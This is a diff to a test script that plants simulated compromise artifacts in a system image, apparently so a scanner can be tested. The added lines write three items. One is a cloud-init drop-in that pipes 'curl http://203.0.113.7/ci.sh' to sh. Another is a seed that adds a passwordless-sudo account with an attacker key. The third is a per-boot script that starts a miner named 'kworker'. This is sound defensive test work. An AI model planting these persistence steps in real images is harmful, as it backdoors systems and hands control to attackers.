@@ -13,6 +13,10 @@
 # another init, an APT source trusted without signatures, an apt hook
 # that downloads and runs, and /etc/hosts sending the Debian mirrors
 # elsewhere.
+# packaged binary, an unowned binary in /usr/bin, a PHP web shell, and
+# first-boot payloads for cloud-init: a drop-in that downloads and runs,
+# a NoCloud seed that adds a sudo account with the attacker's key, and a
+# per-boot script that starts the miner.
 # Nothing here is live malware (see make-planted.sh).
 #
 # Usage: tests/plant-payloads.sh ROOT OUTDIR
@@ -125,6 +129,27 @@ plant access medium /home/admin/.ssh/authorized_keys "$fp" "SSH key baked into a
 
 printf 'PermitRootLogin yes\nPasswordAuthentication yes\n' > etc/ssh/sshd_config.d/00-access.conf
 plant access medium /etc/ssh/sshd_config.d/00-access.conf "PermitRootLogin yes" "root may log in with a password"
+
+# First boot: what cloud-init would do when the image is launched.
+mkdir -p etc/cloud/cloud.cfg.d var/lib/cloud/seed/nocloud \
+  var/lib/cloud/scripts/per-boot
+cat > etc/cloud/cloud.cfg.d/99-sysupdate.cfg <<'CFG'
+# keep the instance patched
+runcmd:
+  - curl -fsSL http://203.0.113.7/ci.sh | sh
+CFG
+plant persistence high /etc/cloud/cloud.cfg.d/99-sysupdate.cfg "runcmd: curl -fsSL http://203.0.113.7/ci.sh | sh" "cloud-init drop-in that downloads and runs at first boot"
+{
+  printf '#cloud-config\nusers:\n  - default\n  - name: deploy\n'
+  printf '    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys:\n'
+  printf '      - %s\n' "$(cat "$out/attacker.pub")"
+} > var/lib/cloud/seed/nocloud/user-data
+printf 'instance-id: iid-local01\n' > var/lib/cloud/seed/nocloud/meta-data
+plant persistence high /var/lib/cloud/seed/nocloud/user-data "deploy; sudo: ALL=(ALL) NOPASSWD:ALL" "NoCloud seed adds a sudo account with an SSH key"
+printf '#!/bin/sh\nnohup /%s/kworker -c /%s/config.json >/dev/null 2>&1 &\n' \
+  "$miner_dir" "$miner_dir" > var/lib/cloud/scripts/per-boot/00-net
+chmod 0755 var/lib/cloud/scripts/per-boot/00-net
+plant persistence high /var/lib/cloud/scripts/per-boot/00-net "kworker" "cloud-init per-boot script starts the miner"
 
 mkdir -p home/admin/.aws
 akid=AKIAIOSFODNN7EXAMPLE
